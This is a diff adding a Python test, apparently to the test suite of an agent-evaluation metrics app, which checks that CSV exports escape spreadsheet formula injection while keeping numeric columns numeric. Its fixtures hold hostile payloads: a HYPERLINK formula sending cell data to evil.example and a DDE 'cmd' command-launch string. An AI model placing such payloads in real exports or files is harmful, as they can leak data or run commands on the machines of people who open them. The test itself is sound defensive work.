@@ -233,3 +233,31 @@ def test_download_view_of_an_unevaluated_run(runs, user_client):
     response = user_client.get(reverse("metrics:export", args=["scores", "csv"]),
                                {"run": [runs.alpha.pk, runs.beta.pk], "job": runs.alpha_job.pk})
     assert response.status_code == 400 and "exactly one run" in response.content.decode()
+
+
+def test_csv_exports_open_as_text_and_numbers_stay_numbers():
+    """Run names, gold steps, agent text and answers that start like a formula get a leading quote
+    (OWASP); numeric columns are written as numbers, negative ones included."""
+    task = TaskFactory(task_id="901", number=901, requirements=["=1+1", "@total"])
+    gold(task, ['=HYPERLINK("http://evil.example/?q="&A1,"Click")', "+cmd|' /C calc'!A0", "click [3]"])
+    run = AgentRunFactory(name="=evil-run", agent="@agent", model="-model", paradigm="step_by_step")
+    # One agent step against three gold steps: n - m = -2.
+    trajectory(run, task, ["click [3]"], final_answer="-2+3+cmd|' /C calc'!A0", success=True)
+    job = evaluate(run)
+    board = exports.leaderboard_frame(leaderboard.leaderboard(leaderboard.LeaderboardFilters()))
+    tables = {what: exports.RUN_FRAMES[what]({run.pk: job.pk}) for what in exports.RUN_EXPORTS}
+    tables["leaderboard"] = board
+
+    for what, frame in tables.items():
+        rows = _read(exports.to_bytes(frame, "csv"), "csv")
+        numeric = [column.name for column in exports.EXPORTS[what] if column.dtype in ("Int64", "Float64")]
+        texts = rows.drop(columns=numeric)
+        assert [cell for cell in texts.to_numpy().ravel() if cell[:1] and cell[0] in "=+-@\t\r"] == [], what
+        assert rows["run"].iloc[0] == "'=evil-run", what
+
+    leaderboard_row = _read(exports.to_bytes(board, "csv"), "csv").iloc[0]
+    assert leaderboard_row["mean_length_difference"] == "-2.0"
+    decisions = _read(exports.to_bytes(tables["decisions"], "csv"), "csv")
+    assert "'=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Click\")" in set(decisions["subject"])
+    assert "'-2+3+cmd|' /C calc'!A0" in set(decisions["agent_text"])
+    assert json.loads(exports.to_bytes(tables["decisions"], "json"))[0]["run"] == "=evil-run"  # JSON stays verbatim
